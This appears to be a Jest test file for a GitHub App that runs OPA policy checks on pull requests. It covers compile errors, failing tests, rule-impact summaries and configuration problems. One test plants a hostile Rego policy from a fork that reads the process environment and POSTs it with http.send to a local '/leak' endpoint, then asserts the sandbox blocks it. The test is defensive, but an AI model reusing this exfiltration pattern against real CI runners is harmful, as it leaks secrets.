/**
 * The `Portcullis policy` check run on pull requests that change the policies: `opa check`
 * and `opa test` of the head policies as annotations, the impact on every container file
 * of the head commit in the summary; and the base policies still judging the pull request.
 */
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import nock from 'nock';
import { POLICY_CHECK_NAME } from '../../src/report/policy-report.js';
import { resetSettings } from '../../src/settings.js';
import {
  API,
  type CheckRunRequest,
  createApp,
  fakePullRequest,
  finalCheckRun,
  OWNER,
  REPO,
  receive,
} from '../support/fake-github.js';
import { useGitHubValidation, validateGitHubResponse } from '../support/github-openapi.js';

useGitHubValidation();
beforeAll(() => nock.disableNetConnect());
afterEach(() => nock.cleanAll());
afterAll(() => nock.enableNetConnect());

const HEAD_SHA = 'a'.repeat(40);
const POLICIES = '.github/portcullis/policies';
const POLICY_RUN_ID = 556;

const NODE_DOCKERFILE = ['FROM node', 'USER node', 'HEALTHCHECK NONE', 'CMD ["node", "server.js"]', ''].join(
  '\n',
);
const PINNED_DOCKERFILE = [
  `FROM alpine:3.19@sha256:${'c'.repeat(64)}`,
  'USER 10001',
  'HEALTHCHECK NONE',
  'CMD ["/app"]',
  '',
].join('\n');

const MIRROR_RULE = [
  '# METADATA',
  '# title: Node images come from our mirror',
  '# custom:',
  '#   id: ACME-001',
  '#   severity: deny',
  'package portcullis.rules.acme_node_mirror',
  '',
  'import rego.v1',
  '',
  'import data.portcullis.lib.images', // 10: unused, which only `opa check --strict` minds
  '',
  'deny contains {"msg": "use registry.acme.example/node", "line": stage.line} if {',
  '\tsome stage in input.dockerfile.stages',
  '\tstage.base.image.repository == "library/node"',
  '}',
  '',
].join('\n');

const MIRROR_TESTS = [
  'package portcullis.rules.acme_node_mirror_test',
  '',
  'import rego.v1',
  '',
  'import data.portcullis.rules.acme_node_mirror',
  '',
  'node := {"target": {"kind": "dockerfile"}, "dockerfile": {"stages": [',
  '\t{"line": 1, "base": {"image": {"repository": "library/node"}}},',
  ']}}',
  '',
  'test_node_is_denied if {',
  '\tcount(acme_node_mirror.deny) == 1 with input as node',
  '}',
  '',
  'test_node_is_denied_twice if {', // 15: fails
  '\tcount(acme_node_mirror.deny) == 2 with input as node',
  '}',
  '',
].join('\n');

/** Git's object id of a blob: what the tree lists and the blob endpoint is asked for. */
function blobSha(content: string): string {
  const bytes = Buffer.from(content);
  return createHash('sha1').update(`blob ${bytes.length}\0`).update(bytes).digest('hex');
}

/**
 * The head commit as the Git data API serves it: one recursive tree, and blobs. Returns
 * the paths whose blobs the App read, and the `Portcullis policy` check-run requests.
 */
function fakeHeadCommit(files: Record<string, string>) {
  const read: string[] = [];
  const policyRuns: CheckRunRequest[] = [];
  const byBlob = new Map(
    Object.entries(files).map(([path, content]) => [blobSha(content), { path, content }]),
  );
  const tree = {
    sha: 'd'.repeat(40),
    url: `${API}/repos/${OWNER}/${REPO}/git/trees/${'d'.repeat(40)}`,
    truncated: false,
    tree: Object.entries(files).map(([path, content]) => ({
      path,
      mode: '100644',
      type: 'blob',
      sha: blobSha(content),
      size: Buffer.byteLength(content),
      url: `${API}/repos/${OWNER}/${REPO}/git/blobs/${blobSha(content)}`,
    })),
  };
  const treePath = `/repos/${OWNER}/${REPO}/git/trees/${HEAD_SHA}`;
  expect(validateGitHubResponse('GET', `${API}${treePath}`, 200, tree)).toEqual([]);
  const api = nock(API);
  api.get(treePath).query({ recursive: 'true' }).reply(200, tree);
  api
    .get((uri) => uri.startsWith(`/repos/${OWNER}/${REPO}/git/blobs/`))
    .times(100)
    .optionally()
    .reply((uri) => {
      const blob = byBlob.get(uri.split('/').pop() ?? '');
      if (!blob) return [404, { message: 'Not Found' }];
      read.push(blob.path);
      const body = {
        sha: blobSha(blob.content),
        node_id: 'B_1',
        url: `${API}${uri}`,
        size: Buffer.byteLength(blob.content),
        encoding: 'base64',
        content: Buffer.from(blob.content).toString('base64'),
      };
      expect(validateGitHubResponse('GET', `${API}${uri}`, 200, body)).toEqual([]);
      return [200, body];
    });
  api
    .post(`/repos/${OWNER}/${REPO}/check-runs`, (body) => {
      if (body.name !== POLICY_CHECK_NAME) return false;
      policyRuns.push({ method: 'POST', body });
      return true;
    })
    .optionally()
    .reply(201, { id: POLICY_RUN_ID });
  api
    .patch(`/repos/${OWNER}/${REPO}/check-runs/${POLICY_RUN_ID}`, (body) => {
      policyRuns.push({ method: 'PATCH', body });
      return true;
    })
    .times(20)
    .optionally()
    .reply(200, { id: POLICY_RUN_ID });
  return { read, policyRuns };
}

const annotation = (run: ReturnType<typeof finalCheckRun>, title: string) =>
  run.annotations.find((a) => a.title.startsWith(title));

it('reports opa check, opa test and the impact of a new rule on the policy pull request', async () => {
  const head = {
    Dockerfile: NODE_DOCKERFILE,
    'services/api/Dockerfile': PINNED_DOCKERFILE,
    'README.md': '# web\n',
    [`${POLICIES}/mirror.rego`]: MIRROR_RULE,
    [`${POLICIES}/mirror_test.rego`]: MIRROR_TESTS,
  };
  const { read, policyRuns } = fakeHeadCommit(head);
  const main = fakePullRequest({
    files: { [`${POLICIES}/mirror.rego`]: MIRROR_RULE, [`${POLICIES}/mirror_test.rego`]: MIRROR_TESTS },
  });
  await receive(createApp(), 'pull_request.opened');

  expect(finalCheckRun(main).title).toBe('No container files changed');
  expect(policyRuns[0]).toMatchObject({
    method: 'POST',
    // Created concluded, with its first annotations: one write unless more batches follow.
    body: { name: 'Portcullis policy', head_sha: HEAD_SHA, status: 'completed' },
  });
  const run = finalCheckRun(policyRuns);
  expect(run.completedCount).toBe(1);
  expect(run.endsCompleted).toBe(true);
  expect(run.conclusion).toBe('failure'); // a test fails
  expect(annotation(run, 'opa test: acme_node_mirror_test.test_node_is_denied_twice')).toMatchObject({
    path: `${POLICIES}/mirror_test.rego`,
    start_line: 15,
    annotation_level: 'failure',
  });
  expect(annotation(run, 'opa test: acme_node_mirror_test.test_node_is_denied ')).toBeUndefined();
  expect(annotation(run, 'opa check --strict')).toMatchObject({
    path: `${POLICIES}/mirror.rego`,
    start_line: 10,
    annotation_level: 'warning',
    message: expect.stringContaining('unused'),
  });
  expect(run.summary).toContain('1 of 2 tests passed');
  expect(run.summary).toContain('1 test of the head policies failed');
  // The impact: ACME-001 newly reported on the Dockerfile, nothing else changes.
  expect(run.summary).toContain('| ➕ newly reported | 1 |');
  expect(run.summary).toContain('| ➖ no longer reported | 0 |');
  expect(run.summary).toContain('| ACME-001 | 1 | 0 | 0 |');
  // The path is HTML-escaped in <summary>, where GitHub renders no markdown code span (issue #10).
  expect(run.summary).toContain('<details><summary><code>Dockerfile</code>: +1 −0</summary>');
  expect(run.summary).toContain('| ➕ added | ACME-001 | 1 | ❌ deny | use registry.acme.example/node |');
  expect(run.title).toBe('Policies compile, 1 of 2 tests failed, impact: +1 −0 findings');
  // The targets and the policy files, each read once; never the README.
  expect(read.sort()).toEqual(
    [
      'Dockerfile',
      'services/api/Dockerfile',
      `${POLICIES}/mirror.rego`,
      `${POLICIES}/mirror_test.rego`,
    ].sort(),
  );
});

it('puts a syntax error of the head policies on its line, and runs neither tests nor impact', async () => {
  const broken = [
    'package portcullis.rules.broken',
    '',
    'import rego.v1',
    '',
    'deny contains msg iff {', // 5
    '\tmsg := "x"',
    '}',
    '',
  ].join('\n');
  const { policyRuns } = fakeHeadCommit({ Dockerfile: NODE_DOCKERFILE, [`${POLICIES}/x.rego`]: broken });
  fakePullRequest({ files: { [`${POLICIES}/x.rego`]: broken } });
  await receive(createApp(), 'pull_request.opened');

  const run = finalCheckRun(policyRuns);
  expect(run.conclusion).toBe('failure');
  expect(run.annotations).toEqual([
    expect.objectContaining({
      path: `${POLICIES}/x.rego`,
      start_line: 5,
      annotation_level: 'failure',
      title: 'opa check: rego_parse_error',
    }),
  ]);
  expect(run.summary).toContain('Not run: `opa check` found errors.');
  expect(run.summary).toContain('The policies at the head commit do not compile');
  expect(run.summary).toContain('Not computed: the head policies do not compile');
});

it('creates no policy check run when the pull request changes no policy', async () => {
  const { policyRuns } = fakeHeadCommit({ Dockerfile: NODE_DOCKERFILE });
  const main = fakePullRequest({ files: { Dockerfile: NODE_DOCKERFILE } });
  await receive(createApp(), 'pull_request.opened');
  expect(finalCheckRun(main).conclusion).toBe('failure');
  expect(policyRuns).toEqual([]);
});

it('still judges the pull request by the base policies when the head turns a rule off, and shows it as removed', async () => {
  const config = 'rules:\n  PC-DF-001: off\n';
  const { policyRuns } = fakeHeadCommit({ Dockerfile: NODE_DOCKERFILE, '.github/portcullis.yml': config });
  const main = fakePullRequest({ files: { Dockerfile: NODE_DOCKERFILE, '.github/portcullis.yml': config } });
  await receive(createApp(), 'pull_request.opened');

  const judged = finalCheckRun(main);
  expect(judged.conclusion).toBe('failure');
  expect(annotation(judged, 'PC-DF-001')).toMatchObject({ path: 'Dockerfile', start_line: 1 });

  const run = finalCheckRun(policyRuns);
  expect(run.conclusion).toBe('success');
  expect(run.title).toBe('Policies compile, impact: +0 −1 findings');
  expect(run.summary).toContain('| PC-DF-001 | 0 | 1 | 0 |');
  expect(run.summary).toContain('| ➖ removed | PC-DF-001 | 1 | ❌ deny |');
  expect(run.summary).toContain('judges this pull request by the base policies');
});

it('puts problems of the head configuration on their line', async () => {
  const config = 'rules:\n  PC-DF-001: warn\nfail_onn: [deny]\n';
  const { policyRuns } = fakeHeadCommit({ Dockerfile: NODE_DOCKERFILE, '.github/portcullis.yml': config });
  fakePullRequest({ files: { '.github/portcullis.yml': config } });
  await receive(createApp(), 'pull_request.opened');

  const run = finalCheckRun(policyRuns);
  expect(run.conclusion).toBe('failure');
  expect(run.title).toBe('The head configuration has problems');
  expect(run.annotations).toEqual([
    expect.objectContaining({ path: '.github/portcullis.yml', start_line: 3, annotation_level: 'failure' }),
  ]);
});

it('completes the policy check run as failed when GitHub will not list the head commit', async () => {
  const policyRuns: CheckRunRequest[] = [];
  nock(API)
    .get(`/repos/${OWNER}/${REPO}/git/trees/${HEAD_SHA}`)
    .query({ recursive: 'true' })
    .reply(500, { message: 'Server Error' });
  nock(API)
    .post(`/repos/${OWNER}/${REPO}/check-runs`, (body) => {
      if (body.name !== POLICY_CHECK_NAME) return false;
      policyRuns.push({ method: 'POST', body });
      return true;
    })
    .reply(201, { id: POLICY_RUN_ID });
  fakePullRequest({ files: { [`${POLICIES}/mirror.rego`]: MIRROR_RULE } });
  await receive(createApp(), 'pull_request.opened');

  const run = finalCheckRun(policyRuns);
  expect(run.endsCompleted).toBe(true);
  expect(run.conclusion).toBe('failure');
  expect(run.summary).toContain('Server Error');
});

describe('a fork whose policy tests try to read the environment and reach the network', () => {
  const CANARY = 'canary-5e1f0c2d-secret-value';
  const saved = { WEBHOOK_SECRET: process.env.WEBHOOK_SECRET, PRIVATE_KEY: process.env.PRIVATE_KEY };
  let server: Server;
  let received: string[];

  beforeAll(async () => {
    process.env.WEBHOOK_SECRET = CANARY;
    process.env.PRIVATE_KEY = CANARY;
    resetSettings();
    received = [];
    server = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`);
      response.end('{"ok": true}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  });
  afterAll(async () => {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
      resetSettings();
    }
    await new Promise((resolve) => server.close(resolve));
  });

  it('fails the policy check and shows neither the environment nor a network result', async () => {
    const { port } = server.address() as AddressInfo;
    const hostile = [
      'package portcullis.rules.acme_node_mirror_hostile_test',
      '',
      'import rego.v1',
      '',
      'test_environment if {',
      '\tprint("ENV", opa.runtime().env)',
      '\tfalse',
      '}',
      '',
      'test_network if {',
      `\tresponse := http.send({"method": "POST", "url": "http://127.0.0.1:${port}/leak", "body": opa.runtime().env})`,
      '\tprint("HTTP", response)',
      '\tfalse',
      '}',
      '',
    ].join('\n');
    const files = {
      [`${POLICIES}/mirror.rego`]: MIRROR_RULE,
      [`${POLICIES}/hostile_test.rego`]: hostile,
    };
    const { policyRuns } = fakeHeadCommit({ Dockerfile: NODE_DOCKERFILE, ...files });
    const main = fakePullRequest({ files });
    await receive(createApp(), 'pull_request.opened', (payload) => {
      const pr = payload.pull_request as { head: { repo: { full_name: string; fork?: boolean } } };
      pr.head.repo.full_name = 'mallory/web';
      pr.head.repo.fork = true;
    });

    const run = finalCheckRun(policyRuns);
    expect(run.conclusion).toBe('failure');
    expect(run.endsCompleted).toBe(true);
    // The gate's capabilities refuse both built-ins, naming them on their line.
    expect(run.annotations).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          path: `${POLICIES}/hostile_test.rego`,
          start_line: 6,
          annotation_level: 'failure',
          message: expect.stringContaining('opa.runtime'),
        }),
        expect.objectContaining({
          path: `${POLICIES}/hostile_test.rego`,
          start_line: 11,
          message: expect.stringContaining('http.send'),
        }),
      ]),
    );
    expect(received).toEqual([]);
    // Jest gives each test file its own copy of process.env, which child processes do not
    // inherit; PATH is in both, so it stands for the environment the App's process has.
    const sent = JSON.stringify([policyRuns, main]);
    expect(sent).not.toContain(CANARY);
    expect(sent).not.toContain(process.env.PATH);
    expect(sent).not.toContain('HOME');
  });
});
